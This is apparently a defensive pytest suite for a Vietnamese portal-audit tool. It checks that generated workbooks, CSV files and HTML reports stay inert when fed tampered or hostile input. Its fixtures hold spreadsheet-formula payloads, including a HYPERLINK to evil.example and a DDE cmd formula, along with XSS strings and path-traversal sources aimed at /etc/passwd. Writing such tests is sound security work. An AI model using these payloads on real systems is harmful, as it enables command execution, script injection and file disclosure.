"""The files the audit publishes are safe to open and nothing is read back on trust (issue 16,
findings 1, 2 and 4): a site planting a formula, a component named like one, portal ids that are
not plain ASCII, records lost on the way, and tampered artifacts fed to the report, the merge and
`allure generate`.

Without a browser: the workbook and CSV writers, the inventory's id rule, the report and the merge
from tampered files. With one (a world of hostile sites): a whole audit of a site that pushes a
formula as its EMC site id, whose component (found by discovery under a formula-like name) has a
Vietnamese path; and the agency report of tampered artifacts opened in Chromium."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any, Iterator

import openpyxl
import pytest
from playwright.sync_api import sync_playwright

from portal_audit.cells import csv_rows, to_csv
from portal_audit.inventory import load_inventory
from portal_audit.records.results import Provenance, results_document
from portal_audit.report.command import main as report_main
from portal_audit.render.allure_results import AllureOutput, Step, case_item
from portal_audit.render.evaluation import RUN_INFO, Evaluation
from portal_audit.render.excel import build_workbook
from portal_audit.render.html import anchor_id, data_uri, href
from portal_audit.settings import load_settings
from portal_audit.summary.ranking import Rankings
from portal_audit.verdicts import PAGE_SCREENSHOT, Attachment
from portal_audit.visit import launch_options
from portal_audit.yamlio import SourceError
from pytest_portal_audit.coverage import CollectedCases, missing_lines
from pytest_portal_audit.session import Audit

from . import required
from .audit_runner import REPO, WORLD_CONFIG, AuditRun, audit_command, run_audit, write_inventory
from .world.catalog import page
from .world.emc import EMC_HOST, emc_routes, emc_snippet
from .world.server import Response, World

pytestmark = pytest.mark.xdist_group("untrusted-outputs")

FORMULA = '=HYPERLINK("http://evil.example/steal","Bấm vào đây")'
COMPONENT_NAME = "=cmd|' /C calc'!A0"
HOSTILE_TEXTS = [FORMULA, COMPONENT_NAME, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
PASSWD = "root:x:0:0"


def formula_cells(path: Path) -> list[str]:
    """Every cell of every sheet stored as a formula."""
    book = openpyxl.load_workbook(path)
    return [f"{sheet.title}!{cell.coordinate}: {cell.value}" for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def cell_texts(path: Path) -> set[Any]:
    book = openpyxl.load_workbook(path)
    return {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}


# -- Workbooks and CSV ------------------------------------------------------------------------------

def _record(site: str, name: str, criterion: str, message: str, site_id: str | None = None) -> dict[str, Any]:
    return {"portal": "bo-a", "group": "ministry", "site": site, "site_name": name, "role": "portal",
            "criterion": criterion, "status": "failed", "message": message,
            "evidence": {"site_id": site_id} if site_id else {}, "measured_at": "2026-11-29T01:05:00+00:00"}


def test_openpyxl_alone_would_write_a_formula(tmp_path: Path) -> None:
    """What the workbook writer guards against (the other tests mean something only while this holds)."""
    book = openpyxl.Workbook()
    book.active.append([FORMULA])
    book.save(tmp_path / "raw.xlsx")
    assert formula_cells(tmp_path / "raw.xlsx") == [f"Sheet!A1: {FORMULA}"]


def test_workbook_stores_formula_like_text_as_text(tmp_path: Path) -> None:
    records = [_record("https://bo-a.gov.vn/", text, "3.1", text, site_id=text) for text in HOSTILE_TEXTS]
    records.append(_record("https://bo-a.gov.vn/", "Bộ A\x00\x07", "3.2a", "ký tự điều khiển\x1b của trang"))
    summary = Rankings([], [], ("3.1", "3.2a"), None, None)
    path = tmp_path / "book.xlsx"
    build_workbook(summary, records, {"ministry": "Bộ, ngành"}, [("Ghi chú", FORMULA)]).save(path)
    assert formula_cells(path) == []
    texts = cell_texts(path)
    assert set(HOSTILE_TEXTS) <= texts  # shown exactly as the site wrote it
    assert "Bộ A" in texts and "ký tự điều khiển của trang" in texts  # control characters dropped, row kept
    detail = openpyxl.load_workbook(path)["Kết quả chi tiết"]
    hostile = next(c for c in detail["I"] if c.value == FORMULA)  # "Mã website EMC trên trang"
    assert hostile.data_type == "s" and hostile.quotePrefix


def test_csv_fields_are_neutralised_and_read_back() -> None:
    rows = [["loại", "nội dung"], *[["a", text] for text in HOSTILE_TEXTS], ["b", "'đã có dấu nháy"], ["c", 12]]
    text = to_csv(rows)
    # What a spreadsheet program gets: every field that would start a formula starts with an apostrophe.
    fields = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    assert fields == [f"'{t}" for t in HOSTILE_TEXTS] + ["''đã có dấu nháy", "12"]
    assert csv_rows(text) == [[str(v) for v in row] for row in rows]  # the report shows the site's own text


# -- Portal ids --------------------------------------------------------------------------------------

@pytest.mark.parametrize("portal_id,suggestion", [
    ("hà-nội", "ha-noi"), ("cổng có dấu cách", "cong-co-dau-cach"), ("x" * 300, "x" * 64), ("Bo_A", "bo-a")])
def test_inventory_refuses_ids_that_are_not_slugs(tmp_path: Path, portal_id: str, suggestion: str) -> None:
    path = write_inventory(tmp_path / "inventory.yaml", {"portals": [
        {"id": "bo-a", "name": "Bộ A", "group": "ministry", "url": "https://bo-a.gov.vn/"},
        {"id": portal_id, "name": "Cổng", "group": "province", "url": "https://tinh-b.gov.vn/"}]})
    with pytest.raises(SourceError) as raised:
        load_inventory(path)
    assert str(raised.value).startswith(f"{path}:6: mã cổng '{portal_id[:80]}' không hợp lệ: chỉ dùng chữ thường "
                                        "không dấu (a-z), chữ số và dấu '-', tối đa 64 ký tự")
    assert str(raised.value).endswith(f"(ví dụ '{suggestion}')")


def test_inventory_accepts_slug_ids(tmp_path: Path) -> None:
    path = write_inventory(tmp_path / "inventory.yaml", {"portals": [
        {"id": "ha-noi-2", "name": "Hà Nội", "group": "province", "url": "https://hanoi.gov.vn/"},
        {"id": "x" * 64, "name": "Dài", "group": "province", "url": "https://dai.gov.vn/"}]})
    assert [p.id for p in load_inventory(path).portals] == ["ha-noi-2", "x" * 64]


@pytest.mark.world
def test_the_audit_refuses_a_unicode_id_before_any_browser(tmp_path: Path) -> None:
    path = write_inventory(tmp_path / "inventory.yaml", {"portals": [
        {"id": "hà-nội", "name": "Hà Nội", "group": "province", "url": "https://hanoi.gov.vn/"}]})
    done = subprocess.run(audit_command(tmp_path / "run", path, "-n", "0"), cwd=REPO, capture_output=True,
                          text=True, timeout=300)
    output = done.stdout + done.stderr
    assert done.returncode != 0 and "passed" not in output
    assert f"{path}:2: mã cổng 'hà-nội' không hợp lệ" in output
    assert "Traceback" not in output and not (tmp_path / "run" / "results.json").exists()


def test_any_portal_id_read_back_makes_a_usable_file_name() -> None:
    """results.json is read back as untrusted: a 300-character or Unicode id still names a file."""
    from portal_audit.report.command import file_name

    taken: set[str] = set()
    assert [file_name(p, taken) for p in ("x" * 300, "x" * 300, "hà nội/../..", "..")] == [
        "x" * 64, "x" * 64 + "-2", "hà-nội", "cong"]


# -- Records that do not cover the collected cases ---------------------------------------------------

def _audit(tmp_path: Path, url: str) -> Audit:
    from pytest_portal_audit.collection import cases_of

    inventory = load_inventory(write_inventory(tmp_path / "inventory.yaml", {"portals": [
        {"id": "ha-noi", "name": "Hà Nội", "group": "province", "url": url}]}))
    cases = cases_of(inventory, ("3.1", "3.2a"))
    return Audit(None, cases, {})  # type: ignore[arg-type]


def test_escaped_test_ids_find_their_case(tmp_path: Path) -> None:
    """pytest writes a non-ASCII test id escaped in the node id ('sở' -> 's\\u1edf')."""
    audit = _audit(tmp_path, "https://hanoi.gov.vn/sở/")
    collected = CollectedCases(audit)
    escaped = "tests/portals/test_criteria.py::test_criterion[ha-noi/hanoi.gov.vn/s\\u1edf/3.1]"
    collected.add([escaped, "tests/portals/test_criteria.py::test_criterion[ha-noi/hanoi.gov.vn/sở/3.2a]@g"])
    assert [c.code for c in collected.nodeids.values() if c] == ["3.1", "3.2a"]
    assert collected.missing({("https://hanoi.gov.vn/sở/", "3.1"), ("https://hanoi.gov.vn/sở/", "3.2a")}) == []


def test_collected_cases_without_records_are_named(tmp_path: Path) -> None:
    audit = _audit(tmp_path, "https://hanoi.gov.vn/")
    collected = CollectedCases(audit)
    unknown = "tests/portals/test_criteria.py::test_criterion[ha-noi/khac.gov.vn/3.1]"
    collected.add(["tests/portals/test_criteria.py::test_criterion[ha-noi/hanoi.gov.vn/3.1]", unknown,
                   "selftests/test_x.py::test_other", "tests/portals/test_criteria.py::test_criterion[NOTSET]"])
    missing = collected.missing({("https://hanoi.gov.vn/", "3.2a")})
    assert missing == ["tests/portals/test_criteria.py::test_criterion[ha-noi/hanoi.gov.vn/3.1]", unknown]
    lines = missing_lines(missing)
    assert lines[0].startswith("portal-audit: LỖI: 2 trường hợp đã thu thập nhưng không có kết quả")
    assert lines[2] == f"portal-audit: thiếu kết quả: {unknown}"


# -- Tampered artifacts: the report, the merge, allure generate ---------------------------------------

SITE = "https://bo-a.gov.vn/"
BAD_CRITERION = '3.1"><img src=x onerror=alert(5)>'
BAD_TYPE = 'image/png" onerror="alert(1)" x="'
START_MS = 1795914000000


def _tampered_run(tmp: Path) -> dict[str, Path]:
    """A run's files as a hostile copy leaves them: results.json with script in every field the report
    shows, Allure attachments with a quote-carrying type, paths out of the folder, a symlink out."""
    outside = tmp / "ngoai"
    outside.mkdir()
    (outside / "bi-mat.csv").write_text(f"a,b\n{PASSWD},x\n", encoding="utf-8")
    evaluation = Evaluation("2026-Q4", "2026-11-29T01:00:00+00:00", "inventory.yaml", None, None,
                            str(outside / "lich-su.txt"), "0.2.0", "131", "may")
    records = [
        _record(SITE, "<script>alert(2)</script>", BAD_CRITERION, "<img src=x onerror=alert(3)>"),
        {**_record("javascript:alert(4)//", "Trang <b>khác</b>", "3.2a", '"><svg onload=alert(6)>'),
         "role": "component\" onclick=\"alert(7)"},
    ]
    results = tmp / "results.json"
    results.write_text(json.dumps(results_document(records, Path("inventory.yaml"), True,
                                                   {"evaluation": evaluation.to_json()}).to_json(),
                                  ensure_ascii=False), encoding="utf-8")
    allure = tmp / "allure-results"
    output = AllureOutput(allure)
    for r in records:
        output.write(case_item(r, title="t", description="", labels=[], start_ms=START_MS, stop_ms=START_MS + 1,
                               steps=[Step("Truy cập", "failed", evidence=[
                                   Attachment(PAGE_SCREENSHOT, b"\xff\xd8\xff\xe0jpeg", "image/jpeg", "jpg")])]))
    (allure / "link").symlink_to(outside / "bi-mat.csv")
    for path in allure.glob("*-result.json"):
        result = json.loads(path.read_text(encoding="utf-8"))
        step = result["steps"][0]
        step["attachments"][0]["type"] = BAD_TYPE
        step["attachments"] += [{"name": "a", "source": "../../../../etc/passwd", "type": "text/csv"},
                                {"name": "b", "source": str(outside / "bi-mat.csv"), "type": "text/csv"},
                                {"name": "c", "source": "link", "type": "text/csv"},
                                {"name": "d", "source": "../ngoai/bi-mat.csv", "type": "text/csv"},
                                {"name": "e", "source": step["attachments"][0]["source"], "type": "text/html"}]
        path.write_text(json.dumps(result), encoding="utf-8")
    return {"results": results, "allure": allure, "out": tmp / "gui-co-quan", "outside": outside}


@pytest.fixture
def tampered(tmp_path: Path) -> dict[str, Path]:
    return _tampered_run(tmp_path)


def test_html_helpers_take_only_what_is_safe_in_their_place() -> None:
    assert data_uri(BAD_TYPE, b"x") == "" and data_uri("image/svg+xml", b"<svg onload=alert(1)>") == ""
    assert data_uri("image/png", b"x") == "data:image/png;base64,eA=="
    assert href("javascript:alert(1)") is None and href(" JavaScript:alert(1)") is None
    assert href("data:text/html,<script>") is None and href("file:///etc/passwd") is None
    assert href('https://bo-a.gov.vn/"><script>') == "https://bo-a.gov.vn/&quot;&gt;&lt;script&gt;"
    assert anchor_id("c0", BAD_CRITERION) == "c0-3-1-img-src-x-onerror-alert-5"
    assert anchor_id("c1", "3.2a") == "c1-3-2a"


def _report(run: dict[str, Path], *extra: str) -> int:
    return report_main(["--allure-results", str(run["allure"]), "--results", str(run["results"]),
                        "--out", str(run["out"]), *extra])


EVENT_ATTRIBUTE = re.compile(r"<[^>]*\son\w+\s*=", re.IGNORECASE)


def test_report_of_tampered_artifacts_is_inert(tampered: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    assert _report(tampered) == 0
    assert "bỏ qua tệp lịch sử" in capsys.readouterr().err  # the path results.json names is not a history
    for path in tampered["out"].glob("*.html"):
        page_text = path.read_text(encoding="utf-8")
        assert "<script" not in page_text.lower(), path
        assert not EVENT_ATTRIBUTE.findall(page_text), (path, EVENT_ATTRIBUTE.findall(page_text))
        assert PASSWD not in page_text, path
        assert not re.findall(r'(?:href|src)="(?!data:image/(?:png|jpeg|webp);|#|https://bo-a\.gov\.vn/|bo-a\.html)',
                              page_text), path
        assert all(re.fullmatch(r"[a-z0-9-]+", i) for i in re.findall(r'\sid="([^"]*)"', page_text)), path
    agency = (tampered["out"] / "bo-a.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in agency  # shown as text
    assert "data:image/png" not in agency  # the image of the quote-carrying type is left out
    assert formula_cells(tampered["out"] / "bo-a.xlsx") == []


def test_report_refuses_files_over_the_limits(tampered: dict[str, Path], tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    config = tmp_path / "cau-hinh.yaml"
    config.write_text("artifacts:\n  results_max_bytes: 100\n", encoding="utf-8")
    assert _report(tampered, "--audit-config", str(config)) == 2
    err = capsys.readouterr().err.strip()
    assert err == (f"python -m portal_audit.report: lỗi: {tampered['results']}: tệp kết quả lớn hơn giới hạn 100 byte "
                   "(artifacts trong cấu hình)")
    config.write_text("artifacts:\n  allure_result_max_bytes: 100\n", encoding="utf-8")
    assert _report(tampered, "--audit-config", str(config)) == 2
    assert "kết quả Allure lớn hơn giới hạn 100 byte" in capsys.readouterr().err


@pytest.mark.world
def test_agency_report_of_tampered_artifacts_fires_no_dialog(tampered: dict[str, Path]) -> None:
    assert _report(tampered) == 0
    dialogs = _dialogs_when_opened(tampered["out"] / "bo-a.html")
    assert dialogs == []


def _dialogs_when_opened(path: Path) -> list[str]:
    """The dialogs (alert, confirm ...) a page opens in headless Chromium, hovering and clicking it too."""
    dialogs: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(**launch_options(playwright, load_settings().browser, ()))
        try:
            tab = browser.new_page()
            tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            tab.route("**/*", lambda route: route.continue_() if route.request.url.startswith(("file:", "data:"))
                      else route.abort())
            tab.goto(path.as_uri())
            tab.evaluate("() => document.querySelectorAll('*').forEach(e => ['mouseover', 'click', 'focus']"
                         ".forEach(t => e.dispatchEvent(new Event(t))))")
            tab.wait_for_timeout(500)
        finally:
            browser.close()
    return dialogs


@pytest.mark.world
def test_merge_of_tampered_artifacts(tmp_path: Path) -> None:
    """A results.json whose site names are formulas, and a copied Allure summary result whose
    attachment points out of the folder: the merged workbook has no formula, nothing outside is deleted."""
    inventory_path = write_inventory(tmp_path / "inventory.yaml", {"portals": [
        {"id": "bo-a", "name": "Bộ A", "group": "ministry", "url": SITE}]})
    inventory = load_inventory(inventory_path)
    records = [{**_record(SITE, COMPONENT_NAME, code, FORMULA, site_id=FORMULA), "status": "passed"}
               for code in ("3.1", "3.2a", "3.2b")]
    shard = tmp_path / "shard.json"
    shard.write_text(json.dumps(results_document(records, inventory_path, True, {}, Provenance(
        inventory.digest(), None, ("bo-a",), None)).to_json()), encoding="utf-8")
    allure = tmp_path / "allure-results"
    allure.mkdir()
    victim = tmp_path / "nan-nhan.txt"
    victim.write_text("giữ nguyên", encoding="utf-8")
    (allure / "x-result.json").write_text(json.dumps({
        "fullName": "portal_audit.summary.visits", "attachments": [{"source": "../nan-nhan.txt"},
                                                                  {"source": str(victim)}]}), encoding="utf-8")
    out = tmp_path / "quoc-gia" / "results.json"
    done = subprocess.run([sys.executable, "-m", "portal_audit.merge", str(out), str(shard), "--inventory",
                           str(inventory_path), "--alluredir", str(allure)], cwd=REPO, capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    assert victim.read_text(encoding="utf-8") == "giữ nguyên" and not (allure / "x-result.json").exists()
    workbook = out.parent / "ket-qua-danh-gia.xlsx"
    assert formula_cells(workbook) == [] and {COMPONENT_NAME, FORMULA} <= cell_texts(workbook)
    for csv_file in allure.glob("*.csv"):
        assert not [row for row in csv_file.read_text(encoding="utf-8").splitlines() if row[:1] in "=+-@"]
    config = tmp_path / "cau-hinh.yaml"
    config.write_text("artifacts:\n  results_max_bytes: 100\n", encoding="utf-8")
    refused = subprocess.run([sys.executable, "-m", "portal_audit.merge", str(out), str(shard), "--inventory",
                              str(inventory_path), "--audit-config", str(config)], cwd=REPO, capture_output=True,
                             text=True, timeout=300)
    assert refused.returncode == 2
    assert refused.stderr.strip().endswith(f"{shard}: tệp kết quả lớn hơn giới hạn 100 byte (artifacts trong cấu hình)")


def _allure_generate(allure: Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    required.command("allure", why="bin/setup installs it")
    env = {k: v for k, v in os.environ.items() if k != "PORTAL_AUDIT_HISTORY"}
    return subprocess.run(["allure", "generate", "--config", str(REPO / "allurerc.mjs"), str(allure), "-o",
                           str(cwd / "allure-report")], cwd=cwd, capture_output=True, text=True, timeout=300, env=env)


@pytest.mark.world
@pytest.mark.parametrize("where", ["outside", "symlink", "not-jsonl"])
def test_allure_generate_never_writes_where_an_artifact_points(tampered: dict[str, Path], tmp_path: Path,
                                                               where: str) -> None:
    outside = tampered["outside"]
    target = {"outside": outside / "lich-su.jsonl", "symlink": tmp_path / "lien-ket.jsonl",
              "not-jsonl": tmp_path / "lich-su.txt"}[where]
    if where == "symlink":
        target.symlink_to(outside / "bi-mat.csv")
    info = {"report_name": "x", "evaluation": {"history": str(target), "started_at": "2026-11-29T01:00:00+00:00"}}
    (tampered["allure"] / RUN_INFO).write_text(json.dumps(info), encoding="utf-8")
    workdir = tmp_path / "lam-viec"
    workdir.mkdir()
    done = _allure_generate(tampered["allure"], workdir)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "bỏ qua tệp lịch sử" in done.stdout + done.stderr
    assert not (outside / "lich-su.jsonl").exists() and not (tmp_path / "lich-su.txt").exists()
    assert (outside / "bi-mat.csv").read_text(encoding="utf-8") == f"a,b\n{PASSWD},x\n"


@pytest.mark.world
def test_allure_generate_keeps_a_history_in_its_folder(tampered: dict[str, Path], tmp_path: Path) -> None:
    history = tmp_path / "lam-viec" / "lich-su.jsonl"
    history.parent.mkdir()
    info = {"report_name": "x", "evaluation": {"history": str(history), "started_at": "2026-11-29T01:00:00+00:00"}}
    (tampered["allure"] / RUN_INFO).write_text(json.dumps(info), encoding="utf-8")
    done = _allure_generate(tampered["allure"], history.parent)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "bỏ qua tệp lịch sử" not in done.stdout + done.stderr
    assert len(history.read_text(encoding="utf-8").splitlines()) == 1


# -- A whole audit of a site that plants formulas ------------------------------------------------------

DOMAIN = "thu-doc-hai.gov.vn"
PORTAL = f"https://cong.{DOMAIN}/"
COMPONENT = f"https://xa.{DOMAIN}/sở/"  # a Vietnamese path: a test id pytest escapes
FOUND = f"https://khac.{DOMAIN}/"  # linked as COMPONENT_NAME: proposed by discovery under that name
GOOD = f"https://tot.{DOMAIN}/"


def _hostile_sites() -> dict[str, Any]:
    portal = page("Cổng độc hại", f'<h2>Liên kết website</h2><ul><li><a href="{COMPONENT}">Xã Sở</a></li>'
                                  f'<li><a href="{FOUND}">{COMPONENT_NAME}</a></li></ul>',
                  head=emc_snippet(FORMULA))
    component = Response(body=page("Xã", f'<a href="{PORTAL}">Cổng độc hại</a>', head=emc_snippet("900")))
    return {EMC_HOST: emc_routes(),
            f"cong.{DOMAIN}": {"/": Response(body=portal)},
            f"xa.{DOMAIN}": {"/s%E1%BB%9F/": component, "/sở/": component},
            f"khac.{DOMAIN}": {"/": component},
            f"tot.{DOMAIN}": {"/": Response(body=page("Tốt", "<p>Tin tức</p>", head=emc_snippet("900")))}}


@pytest.fixture(scope="module")
def hostile_world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with World(_hostile_sites(), tmp_path_factory.mktemp("world")) as world:
        yield world


INVENTORY = {"portals": [
    {"id": "cong-doc-hai", "name": "Cổng độc hại", "group": "province", "url": PORTAL, "emc_site_id": "900",
     "components": [{"name": "Xã Sở", "url": COMPONENT, "emc_site_id": "900"}]},
    {"id": "cong-tot", "name": "Cổng tốt", "group": "province", "url": GOOD, "emc_site_id": "900"}]}


@pytest.fixture(scope="module")
def hostile_audit(hostile_world: World, tmp_path_factory: pytest.TempPathFactory) -> AuditRun:
    """Discovery proposes the component linked as COMPONENT_NAME and merges it; then the audit."""
    workdir = tmp_path_factory.mktemp("audit")
    inventory = write_inventory(workdir / "inventory.yaml", INVENTORY)
    found = subprocess.run([sys.executable, "-m", "portal_audit.discovery", "--inventory", str(inventory), "--portal",
                            "cong-doc-hai", "--out", str(workdir / "de-xuat.yaml"), "--merge", "--audit-config",
                            str(WORLD_CONFIG), "--ignore-https-errors", *hostile_world.resolve_args()],
                           cwd=REPO, capture_output=True, text=True, timeout=300)
    assert found.returncode == 0, found.stdout + found.stderr
    return run_audit(workdir / "run", inventory, "-n", "2", "--portal", "cong-doc-hai",
                     *hostile_world.resolve_args(), "--ignore-https-errors")


@pytest.mark.world
def test_audit_of_a_formula_planting_site(hostile_audit: AuditRun) -> None:
    results = hostile_audit.results
    assert results["complete"] is True, hostile_audit.output[-3000:]
    assert "thiếu kết quả" not in hostile_audit.output
    assert {(r["site"], r["criterion"]) for r in results["records"]} == {
        (PORTAL, "3.1"), (PORTAL, "3.2a"), (PORTAL, "3.2b"), *((site, code) for site in (COMPONENT, FOUND)
                                                                 for code in ("3.1", "3.2a", "3.2c"))}
    assert hostile_audit.record(FOUND, "3.1")["site_name"] == COMPONENT_NAME  # as discovery proposed it
    assert hostile_audit.record(PORTAL, "3.1")["evidence"]["site_id"] == FORMULA
    workbook = hostile_audit.results_path.parent / "ket-qua-danh-gia.xlsx"
    assert formula_cells(workbook) == []
    assert {FORMULA, COMPONENT_NAME} <= cell_texts(workbook)
    tables = [p.read_text(encoding="utf-8") for p in hostile_audit.allure_dir.glob("*.csv")]
    assert any(f"'{COMPONENT_NAME}" in table for table in tables)  # the link table, neutralised
    for table in tables:
        for row in csv.reader(io.StringIO(table)):
            assert not [field for field in row if field[:1] in ("=", "+", "-", "@", "\t", "\r")], row


@pytest.mark.world
def test_agency_report_of_the_formula_site(hostile_audit: AuditRun, tmp_path: Path) -> None:
    out = tmp_path / "gui-co-quan"
    done = subprocess.run([sys.executable, "-m", "portal_audit.report", "--allure-results",
                           str(hostile_audit.allure_dir), "--results", str(hostile_audit.results_path), "--out",
                           str(out)], cwd=REPO, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    assert formula_cells(out / "cong-doc-hai.xlsx") == []
    assert FORMULA in cell_texts(out / "cong-doc-hai.xlsx")
    agency = (out / "cong-doc-hai.html").read_text(encoding="utf-8")
    assert "=cmd|&#x27; /C calc&#x27;!A0" in agency or "=cmd|' /C calc'!A0" in agency
    assert _dialogs_when_opened(out / "cong-doc-hai.html") == []


@pytest.mark.world
def test_a_lost_record_fails_the_run_naming_the_case(hostile_world: World, tmp_path: Path) -> None:
    """Whatever the reason a collected case has no record (here a plugin drops it), the run fails."""
    plugin = tmp_path / "mat_ket_qua.py"
    plugin.write_text(
        "import pytest\n\n\n@pytest.hookimpl(tryfirst=True)\ndef pytest_runtest_logreport(report):\n"
        "    if report.nodeid.endswith('/3.2a]'):\n"
        "        report.user_properties[:] = [p for p in report.user_properties if p[0] != 'portal_audit_record']\n",
        encoding="utf-8")
    inventory = write_inventory(tmp_path / "inventory.yaml", INVENTORY)
    command = audit_command(tmp_path / "run", inventory, "-n", "0", "-p", "mat_ket_qua", "--portal", "cong-tot",
                            *hostile_world.resolve_args(), "--ignore-https-errors")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(tmp_path), os.environ.get("PYTHONPATH")]))}
    done = subprocess.run(command, cwd=REPO, capture_output=True, text=True, timeout=600, env=env)
    output = done.stdout + done.stderr
    assert done.returncode == 1, output[-3000:]
    assert "portal-audit: LỖI: 1 trường hợp đã thu thập nhưng không có kết quả trong results.json" in output
    assert "portal-audit: thiếu kết quả: tests/portals/test_criteria.py::test_criterion[cong-tot/tot." in output
    assert json.loads((tmp_path / "run" / "results.json").read_text(encoding="utf-8"))["complete"] is False
